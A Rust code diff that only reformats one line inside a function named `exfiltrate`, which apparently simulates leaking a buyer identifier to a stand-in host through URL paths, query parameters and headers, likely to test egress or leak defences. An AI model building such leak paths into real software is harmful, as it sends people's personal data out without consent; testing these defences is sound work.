@@ -193,7 +193,11 @@ fn exfiltrate(ctx: &RunContext, mode: &str, response: &HttpResponse) -> Option<H
         .and_then(|v| v["buyer"].as_str().map(str::to_string))?;
     let to = setting(ctx, "exfil_url").unwrap_or("https://allowed.test");
     Some(match mode {
-        "exfil-path" => get("leak", &format!("{to}/u/{}", buyer.replace('@', "%40")), vec![]),
+        "exfil-path" => get(
+            "leak",
+            &format!("{to}/u/{}", buyer.replace('@', "%40")),
+            vec![],
+        ),
         "exfil-query" => get("leak", &format!("{to}/q"), vec![("q".into(), buyer)]),
         "exfil-header" => {
             let mut r = get("leak", &format!("{to}/h"), vec![]);
